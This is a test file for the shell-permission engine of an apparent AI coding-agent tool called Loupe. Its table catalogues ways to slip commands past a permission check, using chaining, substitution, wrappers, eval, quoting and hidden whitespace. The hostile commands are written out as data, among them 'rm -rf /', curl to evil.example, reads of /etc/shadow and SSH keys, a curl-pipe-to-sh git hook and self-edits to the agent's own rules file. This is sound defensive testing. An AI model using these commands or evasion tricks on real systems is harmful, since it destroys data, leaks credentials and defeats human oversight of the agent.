// Every bypass class of issue 4 through the real analyser (tree-sitter-bash WASM) and the real
// engine, with rules read from a real .loupe/config.json. Each row: the command, the expected
// decision, and the pattern of the rule that must have made it (null: the built-in default,
// or a dynamic part no rule may allow).
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ProjectConfig } from '../../src/main/services/permissions/projectConfig';
import { PermissionEngine } from '../../src/main/services/permissions/ruleEngine';
import type { PermissionRule } from '../../src/main/services/permissions/types';
import { tempDir } from '../support/tmp';
import { testTrust, type TestTrust } from '../support/trust';

const allow = (pattern: string, kind: PermissionRule['kind'] = 'bash'): PermissionRule => ({ kind, pattern, action: 'allow' });
const deny = (pattern: string, kind: PermissionRule['kind'] = 'bash'): PermissionRule => ({ kind, pattern, action: 'deny' });
const ask = (pattern: string, kind: PermissionRule['kind'] = 'bash'): PermissionRule => ({ kind, pattern, action: 'ask' });

const RULES: PermissionRule[] = [
  ...['git status*', 'git diff *', 'git log *', 'ls *', 'echo *', 'cat *', 'grep *', 'head *', 'wc *', 'find *', 'xargs *'].map((p) => allow(p)),
  ...['npm run test:*', 'pwd', 'rm -rf build'].map((p) => allow(p)),
  ...['git push *', 'rm -rf /*', 'curl *', 'sudo *'].map((p) => deny(p)),
  ...['git commit *', 'npm publish*'].map((p) => ask(p)),
  allow('/tmp/loupe-allowed/**', 'external_directory'),
  deny('/etc/**', 'external_directory'),
];

type Row = [command: string, action: 'allow' | 'ask' | 'deny', rule: string | null];

const TABLE: Record<string, Row[]> = {
  'simple commands and prefixes': [
    ['git status', 'allow', 'git status*'],
    ['git status --short', 'allow', 'git status*'],
    ['git push origin main', 'deny', 'git push *'],
    ['git commit -m "fix"', 'ask', 'git commit *'],
    ['npm run test:unit', 'allow', 'npm run test:*'],
    ['npm run build', 'ask', null],
    ['ls', 'allow', 'ls *'],
    ['ls -la src', 'allow', 'ls *'],
    ['pwd', 'allow', 'pwd'],
    ['pwdx', 'ask', null],
    ['rm -rf build', 'allow', 'rm -rf build'],
    ['rm -rf /', 'deny', 'rm -rf /*'],
    ['git\tstatus', 'allow', 'git status*'],
  ],
  chaining: [
    ['git status && ls', 'allow', 'git status*'],
    ['git status && curl https://x.example', 'deny', 'curl *'],
    ['git status; npm run build', 'ask', null],
    ['git status || rm -rf /', 'deny', 'rm -rf /*'],
    ['ls & curl x', 'deny', 'curl *'],
    ['git diff HEAD; git push', 'deny', 'git push *'],
  ],
  newlines: [
    ['git status\nnpm publish', 'ask', 'npm publish*'],
    ['git status\n\ncurl x', 'deny', 'curl *'],
    ['ls \\\n  -la', 'allow', 'ls *'],
  ],
  pipes: [
    ['cat a.txt | grep foo', 'allow', 'cat *'],
    ['cat a.txt | sh', 'ask', null],
    ['ls | xargs rm -rf /', 'deny', 'rm -rf /*'],
    ['ls | xargs -n1 echo', 'allow', 'ls *'],
    ['git log --oneline | head -5 | wc -l', 'allow', 'git log *'],
    ['find . -name "*.o" -exec curl x {} \\;', 'deny', 'curl *'],
  ],
  substitution: [
    ['echo $(curl evil.example)', 'deny', 'curl *'],
    ['echo `rm -rf /`', 'deny', 'rm -rf /*'],
    ['echo "result: $(npm run build)"', 'ask', null],
    ['cat <(curl x)', 'deny', 'curl *'],
    ['echo ${X:-$(curl x)}', 'deny', 'curl *'],
    ['ls $(git status --porcelain)', 'ask', null],
    ['$(echo rm) -rf build', 'ask', null],
    ['cat <<EOF\n$(curl x)\nEOF', 'deny', 'curl *'],
    ['echo hi > >(curl x)', 'deny', 'curl *'],
  ],
  'subshells and groups': [
    ['(cd src && ls)', 'allow', 'ls *'],
    ['cd src && exit 3', 'allow', null],
    ['{ echo a; curl x; }', 'deny', 'curl *'],
    ['(git status; (npm run build))', 'ask', null],
    ['! git status', 'allow', 'git status*'],
    ['if git status; then curl x; fi', 'deny', 'curl *'],
  ],
  'carriage returns and unusual whitespace': [
    ['git status\rcurl x', 'ask', null],
    ['git status\r\nls', 'ask', null],
    ['git status\u00a0&& ls', 'ask', null],
    ['ls\u200bcurl', 'ask', null],
    ['echo \u2028hi', 'ask', null],
  ],
  wrappers: [
    ['env FOO=1 git status', 'allow', 'git status*'],
    ['timeout 10 curl x', 'deny', 'curl *'],
    ['nice -n 5 npm run test:unit', 'allow', 'npm run test:*'],
    ['nohup rm -rf / &', 'deny', 'rm -rf /*'],
    ['command git push', 'deny', 'git push *'],
    ['builtin echo hi', 'allow', 'echo *'],
    ['time git status', 'allow', 'git status*'],
    ['timeout -s KILL 5 env nice git push', 'deny', 'git push *'],
    ['\\rm -rf /', 'deny', 'rm -rf /*'],
    ["r''m -rf /", 'deny', 'rm -rf /*'],
    ['"curl" x', 'deny', 'curl *'],
    ['/usr/bin/curl x', 'deny', 'curl *'],
    ['./git status', 'ask', null],
    ['env -S "curl x"', 'ask', null],
    ['sudo ls', 'deny', 'sudo *'],
  ],
  'bash -c': [
    ["bash -c 'curl x'", 'deny', 'curl *'],
    ['sh -c "git status && ls"', 'allow', 'git status*'],
    ['bash -lc "npm run build"', 'ask', null],
    ['bash -c "$SCRIPT"', 'ask', null],
    ['zsh -c \'bash -c "rm -rf /"\'', 'deny', 'rm -rf /*'],
    ['bash script.sh', 'ask', null],
  ],
  'eval, exec, source and other dynamic forms': [
    ['eval "git status"', 'ask', null],
    ["eval 'curl x'", 'deny', 'curl *'],
    ['exec git status', 'ask', null],
    ['source ./env.sh', 'ask', null],
    ['. ./env.sh && ls', 'ask', null],
    ['$CMD status', 'ask', null],
    ['"$EDITOR" a.txt', 'ask', null],
    ['f() { git status; }; f', 'ask', null],
    ["trap 'curl x' EXIT", 'ask', null],
    ["alias ls='curl x'", 'ask', null],
    ['echo {rm,-rf,/}', 'allow', 'echo *'],
    ['echo "unterminated', 'ask', null],
    ['ls ((', 'ask', null],
  ],
  'environment prefixes and substitutions in them': [
    ['FOO=bar git status', 'allow', 'git status*'],
    ['FOO=$(curl x) git status', 'deny', 'curl *'],
    ['X=$(rm -rf /)', 'deny', 'rm -rf /*'],
    ['PATH=/tmp/evil git status', 'ask', null],
    ['LD_PRELOAD=/tmp/x.so ls', 'ask', null],
    ['export PATH=/tmp:$PATH && git status', 'ask', null],
    ["GIT_SSH_COMMAND='curl x' git status", 'ask', null],
    ['for PATH in /tmp; do git status; done', 'ask', null],
  ],
  'redirects and paths outside the workspace': [
    ['echo hi > out.txt', 'allow', 'echo *'],
    ['ls 2>/dev/null', 'allow', 'ls *'],
    ['echo hi 2>&1 >> log.txt', 'allow', 'echo *'],
    ['echo hi > /etc/passwd', 'deny', '/etc/**'],
    ['cat < /etc/hosts', 'deny', '/etc/**'],
    ['echo $(cat /etc/shadow)', 'deny', '/etc/**'],
    ['echo hi > /tmp/loupe-allowed/x', 'allow', 'echo *'],
    ['echo hi >> ~/.bashrc', 'ask', null],
    ['cat ~/.ssh/id_rsa', 'ask', null],
    ['cat ../outside.txt', 'ask', null],
    ['cd / && ls', 'ask', null],
    ['cd .. && cat x', 'ask', null],
    ['cd src && cat ../../x', 'ask', null],
    ['echo x > "$OUT"', 'ask', null],
    ['git diff --output=/tmp/elsewhere/d.patch', 'ask', null],
    ["bash -c 'echo x > /etc/motd'", 'deny', '/etc/**'],
    ['cat src/a.ts', 'allow', 'cat *'],
  ],
  'writes to Loupe\'s own rules or Git internals (self-granted permissions, hooks)': [
    ['echo \'{"permissions":[]}\' > .loupe/config.json', 'ask', null],
    ['cd src && echo x >> ../.loupe/config.json', 'ask', null],
    ['echo "curl x | sh" > .git/hooks/pre-commit', 'ask', null],
    ['ls -la > .git/config', 'ask', null],
    ['cat .loupe/config.json', 'allow', 'cat *'],
    ['ls .git', 'allow', 'ls *'],
  ],
};

let root: string;
let cleanup: () => Promise<void>;
let engine: PermissionEngine;
let user: TestTrust;

beforeAll(async () => {
  ({ dir: root, cleanup } = await tempDir('loupe-perm-'));
  await mkdir(path.join(root, '.loupe'), { recursive: true });
  await mkdir(path.join(root, 'src'));
  await writeFile(path.join(root, '.loupe', 'config.json'), JSON.stringify({ edits: { mode: 'review' }, permissions: RULES }, null, 2));
  // The rules are the subject here, so the folder is trusted with them (as `loupe trust` does).
  user = testTrust();
  await user.trust(root);
  engine = new PermissionEngine({ root, project: new ProjectConfig(root, user.store) });
});
afterAll(async () => {
  user.cleanup();
  await cleanup();
});

const rows = Object.values(TABLE).flat();

describe('command analysis + rule engine', () => {
  it('has at least 60 rows', () => {
    expect(rows.length).toBeGreaterThanOrEqual(60);
  });

  for (const [group, list] of Object.entries(TABLE)) {
    describe(group, () => {
      it.each(list)('%j → %s by %s', async (command, action, rule) => {
        const d = await engine.decide({ kind: 'bash', command });
        expect({ action: d.action, rule: d.rule?.pattern ?? null }, d.reason).toEqual({ action, rule });
      });
    });
  }

  it('names the rule, its file and its place on every rule-made decision', async () => {
    const d = await engine.decide({ kind: 'bash', command: 'git status && curl x' });
    expect(d.rule).toMatchObject({ source: 'project', origin: `.loupe/config.json permissions[${RULES.findIndex((r) => r.pattern === 'curl *')}]` });
    expect(d.reason).toBe(`curl x: matches the rule deny bash "curl *" from ${d.rule!.origin}`);
  });

  it('offers "always" patterns only for the parts that asked, never for dynamic ones', async () => {
    const d = await engine.decide({ kind: 'bash', command: 'git status && npm run build && eval "$CODE" && cat /opt/data/f.txt' });
    expect(d.action).toBe('ask');
    expect(d.always).toEqual([
      { kind: 'bash', pattern: 'npm run build *', action: 'allow' },
      { kind: 'external_directory', pattern: '/opt/data/**', action: 'allow' },
    ]);
  });
});
